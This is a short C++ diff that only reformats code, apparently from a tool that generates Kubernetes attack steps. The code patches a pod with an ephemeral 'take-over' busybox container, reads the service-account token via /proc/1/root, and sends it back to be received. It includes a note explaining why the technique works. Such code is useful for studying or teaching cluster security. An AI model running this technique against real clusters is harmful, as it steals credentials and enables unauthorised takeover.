@@ -17,15 +17,15 @@ StepText text(const StepView& view) {
   const auto spec = fmt::format(
       R"(,"spec":{{"ephemeralContainers":[{{"name":"take-over","image":"busybox","targetContainerName":"CONTAINER","command":{}}}]}})",
       requests::send_token_command("/proc/1/root", place.file));
-  return {
-      fmt::format("{}\n{}",
-                  requests::overwrite_object(view, kPatchEphemeral,
-                                             requests::object_json("v1", "Pod", requests::pod_namespace(view),
-                                                                   requests::pod_name(view), spec),
-                                             "--subresource=ephemeralcontainers "),
-                  requests::receive_token(view)),
-      "a container added to the pod sees the files of the others, the token of its account "
-      "among them"};
+  return {fmt::format("{}\n{}",
+                      requests::overwrite_object(
+                          view, kPatchEphemeral,
+                          requests::object_json("v1", "Pod", requests::pod_namespace(view),
+                                                requests::pod_name(view), spec),
+                          "--subresource=ephemeralcontainers "),
+                      requests::receive_token(view)),
+          "a container added to the pod sees the files of the others, the token of its account "
+          "among them"};
 }
 
 }  // namespace
